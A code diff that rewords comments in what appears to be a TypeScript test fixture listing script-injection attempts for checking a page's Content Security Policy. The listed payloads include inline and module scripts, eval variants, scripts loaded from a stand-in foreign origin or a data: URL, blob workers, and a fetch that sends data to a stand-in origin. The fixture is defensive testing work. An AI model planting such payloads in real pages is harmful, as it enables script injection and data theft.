@@ -1,12 +1,12 @@
-// What an intruder could try in a page. ELSEWHERE stands for another origin; `hit()` is the intruder's own script, and what
-// turns #planted or the body's outline to MARK is their style.
+// What an intruder could try on a page. ELSEWHERE stands for another origin. A call of `hit()` means that the intruder's
+// script ran; an outline in MARK on #planted or the body means that their style applied.
 
-/** One attempt. `html` comes with the document, `script` runs in the page afterwards. */
+/** One attempt. `html` is part of the document; `script` runs in the page afterwards. */
 export interface Attempt {
   name: string;
   html?: string;
   script?: string;
-  /** The browser refuses it on every site, with or without a policy. */
+  /** Browsers refuse it on every site, with or without a policy. */
   browser?: true;
   /** Needs service workers. */
   workers?: true;
@@ -22,7 +22,7 @@ const hearing = (
   w.onerror = refuse`;
 const inScript = (deed: string) => `const s = document.createElement('script'); ${deed}; document.body.append(s)`;
 
-/** Attempts that come with the document. */
+/** Attempts in the document itself. */
 const markup: readonly Attempt[] = [
   { name: 'inline script', html: '<script>hit()</script>' },
   { name: 'inline module', html: '<script type="module">hit()</script>' },
@@ -71,7 +71,7 @@ const markup: readonly Attempt[] = [
   },
 ];
 
-/** Attempts to make code or markup of a string. */
+/** Attempts to turn a string into code or markup. */
 const strings: readonly Attempt[] = [
   { name: 'eval', script: "eval('hit()')" },
   { name: 'eval by another name', script: "(0, eval)('hit()')" },
@@ -115,7 +115,7 @@ const BLOB = "URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/jav
 const SHARED =
   "URL.createObjectURL(new Blob(['onconnect = (e) => e.ports[0].postMessage(1)'], { type: 'text/javascript' }))";
 
-/** Attempts to start a script by its address. */
+/** Attempts to load a script by its address. */
 const scripts: readonly Attempt[] = [
   { name: 'foreign script by script', script: inScript("s.src = 'ELSEWHERE/x.js'") },
   { name: 'data: script by script', script: inScript("s.src = 'data:text/javascript,hit()'") },
@@ -140,7 +140,7 @@ const scripts: readonly Attempt[] = [
   },
 ];
 
-/** Attempts to carry something elsewhere. */
+/** Attempts to send data elsewhere. */
 const requests: readonly Attempt[] = [
   { name: 'foreign fetch', script: "return fetch('ELSEWHERE/x', { mode: 'no-cors' })" },
   {
